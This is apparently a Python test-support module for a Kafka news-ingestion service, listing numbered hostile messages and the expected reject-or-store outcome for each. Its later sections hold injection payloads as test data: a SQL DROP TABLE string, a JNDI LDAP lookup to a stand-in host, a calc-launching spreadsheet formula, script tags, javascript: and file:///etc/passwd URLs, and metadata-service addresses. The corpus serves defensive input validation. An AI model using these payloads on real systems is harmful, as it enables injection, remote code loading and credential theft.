"""The hostile corpus, raw Kafka messages: what no publisher sends, and what must become of each.

One row a case, numbered H1-H53 as in the table of docs/delivery.md ("Hostile input"). Rows about
files (H20, H35, H54-H68) are in `tests.support.hostile_files`; those that need a batch of their own
on the wire (H30-H36) in `tests.support.hostile_batches`; H37 and H38 are tests of their own.

Every text in it carries a canary: whatever prints one has printed what it must not.
"""

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Final

from tests.support.wire import Raw, batch, produce

TITLE, BODY, URL, SECURED, KEY, HEADER = (
    f"canary{name}x7f3q" for name in ("title", "body", "url", "secured", "key", "header")
)
CANARIES: Final = (TITLE, BODY, URL, SECURED, KEY, HEADER)
"""In the texts of the corpus; none of them may be seen outside of tables and Kafka."""

SENT_MS: Final = 1_772_366_400_000
"""The Kafka timestamp of every message that does not bring its own."""

TOPIC_CONFIG: Final = {
    "max.message.bytes": str(16 * 1024 * 1024),
    "message.timestamp.after.max.ms": str(2**63 - 1),
    "message.timestamp.before.max.ms": str(2**63 - 1),
}
"""Of a Kafka topic that takes the whole corpus: a real one refuses some of it at the door."""

SHORT_TOPIC_BYTES: Final = 1_048_588

Headers = Sequence[tuple[str, bytes | None]]


@dataclass(frozen=True)
class Message:
    """One case: a message and what becomes of it.

    `outcome` is the word of `newsloom_records_total`; `reason` that of a rejected one. `stored`:
    columns of api.articles afterwards, for the article that the record names as its own. `note`
    says why the outcome is another than the design page's.
    """

    h: int
    what: str
    value: bytes | None = field(repr=False)
    outcome: str = "created"
    reason: str = ""
    key: bytes | None = field(default=KEY.encode(), repr=False)
    headers: Headers = field(default=(), repr=False)
    timestamp_ms: int = SENT_MS
    stored: Mapping[str, object] = field(default_factory=dict, repr=False)
    address: str = ""
    note: str = ""

    @property
    def name(self) -> str:
        return f"H{self.h} {self.what}"


def address(slug: str) -> str:
    """The address of a case's own article."""
    return f"https://hostile.example/{URL}/{slug}"


def fields(slug: str, changes: Mapping[str, object]) -> dict[str, object]:
    """A good record with some fields changed; None leaves one out."""
    good: dict[str, object] = {
        "title": f"Title {TITLE}",
        "originalUrl": address(slug),
        "excerpt": f"Excerpt {BODY}",
        "body": f"Text {BODY}",
        "publishedDateTime": "2026-02-28T10:00:00Z",
        "provider": {"name": "The Example", "domain": "hostile.example"},
        "secured": f"{SECURED};{SECURED}",
    } | dict(changes)
    return {name: value for name, value in good.items() if value is not None}


def record(slug: str, **changes: object) -> bytes:
    """A record as JSON, half surrogate pairs as escapes."""
    return json.dumps(fields(slug, changes)).encode()


def _with(slug: str, raw: str) -> bytes:
    """A good record with one more member, written as it is."""
    return record(slug)[:-1] + b", " + raw.encode() + b"}"


class _Rows:
    """Collects rows; a case's slug is made of its number and its place."""

    def __init__(self) -> None:
        self.rows: list[Message] = []

    def slug(self, h: int) -> str:
        return f"h{h}-{len(self.rows)}"

    def rejected(
        self,
        h: int,
        what: str,
        value: bytes | None,
        reason: str,
        *,
        key: bytes | None = KEY.encode(),
        headers: Headers = (),
        note: str = "",
    ) -> None:
        self.rows.append(
            Message(h, what, value, "rejected", reason, key=key, headers=headers, note=note)
        )

    def changed(self, h: int, what: str, reason: str, *, note: str = "", **changes: object) -> None:
        """A good record that some changed fields have refused."""
        self.rejected(h, what, record(self.slug(h), **changes), reason, note=note)

    def stored(
        self,
        h: int,
        what: str,
        value: bytes | None = None,
        *,
        columns: Mapping[str, object] | None = None,
        key: bytes | None = KEY.encode(),
        headers: Headers = (),
        timestamp_ms: int = SENT_MS,
        note: str = "",
        outcome: str = "created",
        at: str | None = None,
        **changes: object,
    ) -> None:
        """A record that is stored: a good one with changed fields, unless `value` is given."""
        slug = self.slug(h)
        message = record(slug, **changes) if value is None else value
        self.rows.append(
            Message(
                h,
                what,
                message,
                outcome,
                key=key,
                headers=headers,
                timestamp_ms=timestamp_ms,
                stored=columns or {},
                address=address(slug) if at is None else at,
                note=note,
            )
        )


def messages() -> list[Message]:
    """Return the corpus in the order in which it is to be sent, to one partition."""
    rows = _Rows()
    for part in (_wire, _json, _texts, _shapes, _repeats, _envelopes, _urls, _times, _values):
        part(rows)
    return rows.rows


def _wire(rows: _Rows) -> None:
    rows.rejected(1, "no value, with a key", None, "kafka.tombstone")
    rows.rejected(1, "no value and no key", None, "kafka.tombstone", key=None)
    rows.rejected(2, "nothing", b"", "decode.empty")
    rows.rejected(2, "white space", b" \r\n\t ", "decode.empty")
    for what, key in (
        ("no key", None),
        ("an empty key", b""),
        ("a key that is no UTF-8", b"\xff\xfe" + KEY.encode()),
        ("a key of 4 KiB", KEY.encode() * 200 + b"k" * (4096 - 200 * len(KEY))),
    ):
        rows.stored(3, what, key=key)
    for size in (4097, 1_000_000):
        rows.rejected(3, f"a key of {size} bytes", record("h3"), "kafka.key_size", key=b"k" * size)
    text = json.dumps(fields("h4", {"title": f"Caf\u00e9 {TITLE}"}), ensure_ascii=False)
    good = record("h4").decode()
    for what, value in (
        ("UTF-16 with its mark", text.encode("utf-16")),
        ("Latin-1", text.encode("latin-1")),
        ("overlong", good.replace("Title", "Ti\0tle").encode().replace(b"\0", b"\xc0\x80")),
        ("CESU-8", good.encode().replace(b"Title", b"\xed\xa0\xbd\xed\xb8\x80")),
    ):
        rows.rejected(4, what, value, "decode.utf8")
    rows.rejected(
        4,
        "UTF-16 without its mark",
        good.encode("utf-16-le"),
        "parse.json",
        note="ASCII in UTF-16 is valid UTF-8 with NULs; as JSON it is not.",
    )
    rows.stored(5, "a byte order mark", b"\xef\xbb\xbf" + record(rows.slug(5)))
    rows.rejected(5, "two of them", b"\xef\xbb\xbf" * 2 + record("h5"), "parse.json")


def _json(rows: _Rows) -> None:
    good = record("h6")
    for what, value in (
        ("cut off", good[:-7]),
        ("a rest behind it", good + b"x"),
        ("two objects", good + good),
        ("a comma too many", good[:-1] + b",}"),
        ("a comment", b"/* */" + good),
        ("single quotes", good.replace(b'"', b"'")),
        ("a line break in a text", good.replace(b"Title", b"Ti\ntle")),
        ("front matter", f"---\ntitle: {TITLE}\n---\n".encode()),
    ):
        rows.rejected(6, what, value, "parse.json")
    for what, value in (
        ("a number", b"17"),
        ("a list", f'["{TITLE}"]'.encode()),
        ("null", b"null"),
        ("a text", f'"{TITLE}"'.encode()),
    ):
        rows.rejected(7, what, value, "schema.not_object")
    rows.stored(
        8,
        "a key for the second time",
        _with(rows.slug(8), f'"title": "Second {TITLE}"'),
        columns={"title": f"Second {TITLE}"},
        note="Override: the last one counts, as every JSON library has it.",
    )
    for place in ("heat", "unknown"):
        for h, number in ((9, "NaN"), (9, "Infinity"), (9, "-Infinity"), (10, "1e400")):
            value = _with(rows.slug(h), f'"{place}": {number}')
            rows.rejected(h, f"{number} as {place}", value, "parse.non_finite")
        for what, number in (
            ("30 digits", "1" * 30),
            ("5000 digits", "9" * 5000),
            ("2 to the 63rd", str(2**63)),
        ):
            value = _with(rows.slug(11), f'"{place}": {number}')
            rows.rejected(11, f"{what} as {place}", value, "parse.number_range")
    for depth in (33, 100, 2000, 100_000):
        value = _with("h12", f'"x": {"[" * depth}{"]" * depth}')
        rows.rejected(12, f"{depth} lists deep", value, "parse.depth")
    rows.rejected(12, "2000 objects deep", b'{"a":' * 2000 + b"1" + b"}" * 2000, "parse.depth")
    rows.rejected(12, "100,000 open brackets", b"[" * 100_000, "parse.depth")
    rows.stored(12, "31 deep", _with(rows.slug(12), f'"x": {"[" * 31}{"]" * 31}'))
    rows.stored(12, "brackets in a text", body="[" * 100_000 + "{" * 100_000)
    many = ",".join(f'"{number}":{number}' for number in range(100_000))
    rows.rejected(13, "100,000 keys", f"{{{many}}}".encode(), "parse.node_limit")
    million = _with("h13", f'"x": [{",".join("0" * 1_000_000)}]')
    rows.rejected(13, "a list of a million", million, "parse.node_limit")


def _texts(rows: _Rows) -> None:
    rows.stored(
        14,
        "half a surrogate pair in the title",
        title=f"A\ud800B {TITLE}",
        columns={"title": f"A\ufffdB {TITLE}"},
    )
    rows.stored(14, "half a pair as an unknown name", record(rows.slug(14), **{"\udfff": BODY}))
    rows.stored(
        14, "a whole pair", title=f"\U0001f600 {TITLE}", columns={"title": f"\U0001f600 {TITLE}"}
    )
    half_url = f"https://hostile.example/{URL}/\ud800"
    rows.changed(14, "half a pair in the address", "text.surrogate", originalUrl=half_url)
    rows.stored(
        15,
        "NUL in title and body",
        title=f"A\0B {TITLE}",
        body=f"C\0D {BODY}",
        columns={"title": f"AB {TITLE}", "body": f"CD {BODY}"},
    )
    rows.changed(
        15,
        "NUL in the address",
        "text.control",
        originalUrl=f"https://hostile.example/{URL}\0",
        note="The closed set has one code for all control characters.",
    )
    rows.stored(
        16,
        "controls, ANSI, line ends in the title",
        title=f"\x07\x1b[31mRed\x1b[0m\r\nCRITICAL\u2028{TITLE}\x9b1m\x7f",
        columns={"title": f"Red CRITICAL {TITLE}\u203a1m"},
        note="The C1 control is what Latin-1 makes of a Windows-1252 quote: it is one again.",
    )
    rows.stored(
        17,
        "bidi overrides and zero width in the title",
        title=f"\u202eA\u2066B\u2069\u200bC\ufeff {TITLE}",
        columns={"title": f"ABC {TITLE}"},
    )
    marks = "a" + "\u0301\u0323" * 50_000
    rows.stored(
        18,
        "100,000 combining marks in the body",
        body=marks,
        note="Capped at 30 marks in a row before it is normalised.",
    )
    rows.changed(18, "as many in the title", "schema.length", title=marks)
    rows.stored(
        19,
        "U+FDFA a hundred thousand times",
        body="\ufdfa" * 100_000,
        columns={"body": "\ufdfa" * 100_000},
        note="NFC does not expand it.",
    )
    rows.changed(20, "a title of 2,001 characters", "schema.length", title="t" * 2001)
    rows.changed(20, "a body of 1 MiB and one", "schema.length", body="b" * (1024 * 1024 + 1))
    rows.changed(20, "a title of 10 MB", "kafka.oversize", title="t" * 10_000_000)
    rows.changed(20, "an astral body of 3 MiB", "kafka.oversize", body="\U0001f600" * 600_000)


def _shapes(rows: _Rows) -> None:
    for what, url in (("an object", {"href": URL}), ("a list", [URL])):
        rows.changed(21, f"the address is {what}", "schema.type", originalUrl=url)
    rows.changed(
        21,
        "the address is a number",
        "url.invalid",
        originalUrl=17,
        note="Numbers are read as their text, as in front matter; this one is no address.",
    )
    rows.stored(
        21,
        "an address with spaces",
        originalUrl=f"  https://hostile.example/{URL}/h21 a b  ",
        at=f"https://hostile.example/{URL}/h21%20a%20b",
        note="Trimmed and escaped, as browsers do.",
    )
    rows.stored(
        21,
        "the address of another field",
        originalUrl=7,
        webUrl=address("h21-web"),
        at=address("h21-web"),
    )
    rows.stored(22, "an unknown field", record(rows.slug(22), **{BODY: BODY}))
    many = {f"{BODY}{n}": n for n in range(200)}
    rows.stored(22, "200 unknown fields", record(rows.slug(22), **many))
    rows.stored(22, "__proto__", _with(rows.slug(22), '"__proto__": {"constructor": {"a": 1}}'))
    rows.changed(23, "no title", "not-an-article", title=None)
    rows.changed(23, "no address", "not-an-article", originalUrl=None)
    rows.rejected(23, "a person", f'{{"name": "{BODY}", "bio": ""}}'.encode(), "not-an-article")
    rows.rejected(23, "an empty object", b"{}", "not-an-article")
    null = record("h23").replace(f'"Title {TITLE}"'.encode(), b"null")
    rows.rejected(23, "a title that is null", null, "not-an-article")
    rows.changed(23, "an invisible title", "not-an-article", title="\u200b \u202e\t")
    for what, title in (("a list", [TITLE]), ("an object", {"a": TITLE}), ("true", True)):
        rows.changed(23, f"a title that is {what}", "schema.type", title=title)
    rows.stored(
        23,
        "a title that is a number",
        title=1984,
        columns={"title": "1984"},
        note="A headline of digits is one; YAML writers leave its quotes out.",
    )
    rows.stored(24, "a version in the record", schemaVersion=999, note="Void: an unknown field.")


def _repeats(rows: _Rows) -> None:
    def seen(hour: int) -> Headers:
        return [("ce_time", f"2026-03-01T{hour:02}:00:00Z".encode())]

    first = record("h25")
    rows.stored(25, "once", first, at=address("h25"), headers=seen(1))
    rows.stored(
        25, "the same again", first, outcome="unchanged", headers=seen(1), at=address("h25")
    )
    versions = {n: record("h26", title=f"Version {n} {TITLE}") for n in range(3)}
    newest = {"title": f"Version 2 {TITLE}"}
    for n, hour, outcome in (
        (1, 2, "created"),
        (0, 1, "stale"),
        (2, 3, "revised"),
        (1, 2, "stale"),
    ):
        rows.stored(
            26,
            f"version {n} at {hour}:00",
            versions[n],
            outcome=outcome,
            headers=seen(hour),
            at=address("h26"),
            columns=newest,
        )
    at = address("h27")
    rows.stored(27, "an address", record("h27"), at=at)
    for what, spelling in (
        ("upper-case host", at.replace("hostile.example", "HOSTILE.Example")),
        ("a slash at its end", at + "/"),
        ("another scheme", at.replace("https", "http")),
        ("an escape without need", at.replace("hostile.example/c", "hostile.example/%63")),
    ):
        rows.stored(
            27, f"the same: {what}", record("h27", originalUrl=spelling), outcome="unchanged", at=at
        )
    for what, spelling in (
        ("other case in the path", at.replace("h27", "H27")),
        ("another Unicode form", f"{at}/e\u0301"),
        ("composed", f"{at}/\u00e9"),
    ):
        rows.stored(27, f"another article: {what}", record("h27", originalUrl=spelling), at="")


def _envelopes(rows: _Rows) -> None:
    rows.stored(28, "a header that is no UTF-8", headers=[("ce_source", b"\xff\xfe"), ("x", None)])
    rows.stored(28, "1,000 headers", headers=[(f"{HEADER}{n}", b"v") for n in range(1000)])
    twice = [("ce_time", b"2020-01-01T00:00:00Z"), ("ce_time", b"2021-01-01T00:00:00Z")]
    rows.stored(
        28,
        "a header twice",
        headers=twice,
        columns={"observed_at": datetime(2021, 1, 1, tzinfo=UTC)},
    )
    forged = [
        ("__connect.errors.exception.message", HEADER.encode()),
        ("kafka_dlt-original-offset", b"\0" * 8),
        ("x-newsloom-replay-count", b"0"),
        ("traceparent", HEADER.encode()),
    ]
    rows.stored(28, "forged headers", headers=forged)
    rows.rejected(28, "forged headers on junk", b"\xff", "decode.utf8", headers=forged)
    for name, value in (
        ("ce_type", b"com.example.other.v9"),
        ("ce_specversion", b"9.9"),
        ("content-type", b"application/cloudevents+json"),
    ):
        rows.rejected(
            28, f"another {name}", record("h28"), "schema.version", headers=[(name, value)]
        )
    oldest = datetime(1970, 1, 1, tzinfo=UTC)
    for what, number in (
        ("-1", -1),
        ("0", 0),
        ("2 to the 62nd", 2**62),
        ("year 10000", 253_402_300_800_000),
    ):
        rows.stored(
            29, f"Kafka timestamp {what}", timestamp_ms=number, columns={"observed_at": oldest}
        )
    sent = datetime.fromtimestamp(SENT_MS / 1000, UTC)
    for time in ("9999-12-31T23:59:59.999999Z", "0001-01-01T00:00:00+14:00", "now", "\u0661"):
        rows.stored(
            29,
            f"ce_time {time.encode('ascii', 'backslashreplace').decode()}",
            headers=[("ce_time", time.encode())],
            columns={"observed_at": sent},
            note="What is no time gives way to Kafka's timestamp, and is counted.",
        )


def _urls(rows: _Rows) -> None:
    for url in (
        f"javascript:alert('{URL}')",
        f"java\nscript:alert('{URL}')",
        f"\tjAvAsCrIpT:{URL}",
        f"data:text/html,{URL}",
        f"vbscript:{URL}",
        f"file:///etc/passwd?{URL}",
        f"ftp://hostile.example/{URL}",
    ):
        scheme = url.partition(":")[0]
        rows.changed(39, f"scheme {scheme!r}", "url.scheme", originalUrl=url)
    for what, url in (
        ("an open bracket", f"http://[::1/{URL}"),
        ("a port too large", f"http://hostile.example:99999/{URL}"),
        ("a port of letters", f"http://hostile.example:{URL}/"),
        ("no host", "http://"),
        ("a space in the host", f"http://a b.example/{URL}"),
        ("a percent sign in the host", f"http://a%.example/{URL}"),
        ("no scheme", URL),
    ):
        rows.changed(40, what, "url.invalid", originalUrl=url)
    rows.stored(
        40,
        "backslashes",
        originalUrl=f"https:\\\\hostile.example\\{URL}\\h40",
        at=address("h40"),
        note="Slashes, by the URL standard.",
    )
    secret = f"https://user:{SECURED}@hostile.example/{URL}/h41"
    rows.stored(41, "credentials", originalUrl=secret, at=address("h41"))
    for what, host in (
        ("link-local", "169.254.169.254"),
        ("localhost", "localhost"),
        ("a decimal address", "2130706433"),
        ("IPv6", "[::ffff:127.0.0.1]"),
    ):
        rows.stored(42, what, originalUrl=f"http://{host}/{URL}/h42", at="")
    rows.stored(
        43,
        "an international name",
        originalUrl=f"https://B\u00dcCHER.example/{URL}",
        at=f"https://xn--bcher-kva.example/{URL}",
    )
    rows.stored(
        43,
        "mixed scripts",
        originalUrl=f"https://\u0440\u0430ypal.example/{URL}",
        at="",
        note="Punycode shows that it is not what it looks like.",
    )
    rows.changed(43, "no punycode", "url.invalid", originalUrl=f"https://xn--\u00fc.example/{URL}")
    host = f"https://{'a' * 20_000}.example/"
    rows.changed(43, "a host of 20,000", "url.length", originalUrl=host)
    rows.changed(
        43, "a label of 64", "url.invalid", originalUrl=f"https://{'a' * 64}.example/{URL}"
    )
    rows.changed(44, "an address of 8,000", "url.length", originalUrl=address("x" * 8000))
    rows.changed(44, "one of 2,049", "url.length", originalUrl=address("").ljust(2049, "x"))
    longest = address("").ljust(2048, "x")
    rows.stored(44, "one of 2,048", originalUrl=longest, at=longest)
    long_escaped = f"https://hostile.example/{URL}/" + "\u00e9" * 400
    rows.changed(44, "2,400 once escaped", "url.length", originalUrl=long_escaped)


def _times(rows: _Rows) -> None:
    for time in (
        "2024-13-45",
        "2024-02-30T00:00:00Z",
        "2024-01-01T24:00:00Z",
        "2024-06-30T23:59:60Z",
        "20240101",
        "2024-W01-1",
        1704067200,
        "Mon, 01 Jan 2024 00:00:00 GMT",
        "2024-01-01T00:00:00+25:00",
        f"{BODY}",
        "\u0662\u0660\u0662\u0664-01-01T00:00:00Z",
    ):
        shown = str(time).encode("ascii", "backslashreplace").decode().replace(BODY, "words")
        rows.changed(45, f"published {shown}", "time.invalid", publishedDateTime=time)
        rows.stored(45, f"updated {shown}", updatedDateTime=time, note="Override: dropped.")
    rows.changed(46, "no zone", "time.zone", publishedDateTime="2024-01-01T00:00:00")
    rows.stored(46, "updated without a zone", updatedDateTime="2024-01-01T00:00:00")
    for time in (
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.999999Z",
        "0001-01-01T00:00:00+14:00",
        "1899-12-31T23:59:59Z",
        "2200-01-01T00:00:01Z",
    ):
        rows.changed(47, f"published {time}", "time.range", publishedDateTime=time)
    rows.stored(
        47,
        "ten years ahead",
        publishedDateTime="2036-11-20T00:00:00Z",
        columns={"published_at": datetime(2036, 11, 20, tzinfo=UTC)},
        note="Decoding has no clock: what is rejected today must be rejected at each replay.",
    )


def _values(rows: _Rows) -> None:
    for text in (
        "'); DROP TABLE newsloom.articles; --",
        "%s %(a)s",
        "$1",
        "\\N",
        "\\.",
        "100% \\x00 \\u0041",
    ):
        rows.stored(48, text, title=f"{text} {TITLE}", columns={"title": f"{text} {TITLE}"})
    rows.stored(
        49,
        "a script",
        title=f"<script>alert(1)</script>News {TITLE}",
        columns={"title": f"News {TITLE}"},
        note="Markup in a text for people is taken off; what it says stays.",
    )
    for text in ("{{7*7}}", "${jndi:ldap://hostile.example/a}", "=cmd|' /C calc'!A0", "@SUM(1)"):
        rows.stored(49, text, title=f"{text} {TITLE}", columns={"title": f"{text} {TITLE}"})
    for what, text in (
        ("emoji", "\U0001f469\u200d\U0001f469\u200d\U0001f467"),
        ("right to left", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"),
        ("CJK", "\u6f22\u5b57\u304b\u306a"),
        ("astral and unassigned", "\U00020000 \u0378"),
    ):
        rows.stored(50, what, title=f"{text} {TITLE}", columns={"title": f"{text} {TITLE}"})
    rows.stored(50, "decomposed", title=f"e\u0301 {TITLE}", columns={"title": f"\u00e9 {TITLE}"})
    topics = [f"topic{n}" for n in range(10_000)]
    rows.stored(
        51,
        "10,000 topics",
        topics=topics,
        columns={"topics": topics[:64]},
        note="Override: what is too much is dropped and counted.",
    )
    rows.stored(
        51,
        "topics twice, nested, empty",
        topics=["a1", "a1", ["b"], "", {"c": "d"}],
        columns={"topics": ["a1"]},
    )
    rows.stored(52, "language NO", language="NO", title="x1", columns={"language": "no"})
    rows.stored(52, "language false", language=False, title="x2", columns={"language": "und"})
    for heat in ("\u0661\u0662\u0663", "1_000", " 5 ", "0x10", "1e3", "", True, 2**31, 5.5):
        shown = str(heat).encode("ascii", "backslashreplace").decode()
        rows.stored(53, f"heat {shown!r}", heat=heat, columns={"heat": None})
    rows.stored(53, "heat '5'", heat="5", columns={"heat": 5})


async def send_messages(bootstrap: str, topic: str, rows: Sequence[Message]) -> list[int]:
    """Put them into partition 0 in order, each in a batch of its own; return their offsets."""
    return await produce(bootstrap, topic, ((0, as_batch(row)) for row in rows))


def as_batch(row: Message) -> bytes:
    """Write the row as a batch by hand: no client library would send all of them."""
    headers = [(name.encode(), value) for name, value in row.headers]
    return batch([Raw(row.value, row.key, headers)], timestamp_ms=row.timestamp_ms)
